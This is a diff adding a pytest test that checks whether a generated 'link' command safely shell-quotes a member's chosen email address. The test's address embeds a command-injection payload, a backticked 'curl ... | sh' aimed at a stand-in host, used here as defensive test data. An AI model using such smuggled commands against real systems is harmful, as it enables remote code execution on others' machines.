@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import shlex
+import subprocess
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -106,6 +108,17 @@ class TestOfOnePerson:
         (way,) = of_person(where, [MAYA], [])
         assert (way.code, way.command) == (WayCode.LOOK_ALIKE, f"link {MAYA} maya+test@example.com --target main")
         assert of_person(where, [MAYA], [], ["u-maya+test@example.com"]) == ()
+
+    def test_an_address_that_spells_a_command_is_no_command_where_it_is_pasted(self):
+        """A member chooses their address, and all of this may stand before the @."""
+        address = "maya+`curl$IFS'evil'|sh`&#@example.com"
+        (way,) = of_person(around(members=(member(address),)), [MAYA], [])
+
+        assert shlex.split(way.command) == ["link", MAYA, address, "--target", "main"]
+        (pasted,) = subprocess.run(
+            ["/bin/sh", "-c", f"printf '%s\n' {way.command} | wc -l"], check=True, capture_output=True, text=True
+        ).stdout.split()
+        assert pasted == "5"
 
     def test_their_own_account_is_no_look_alike(self):
         assert of_person(around(members=(member(MAYA),)), [MAYA], []) == ()
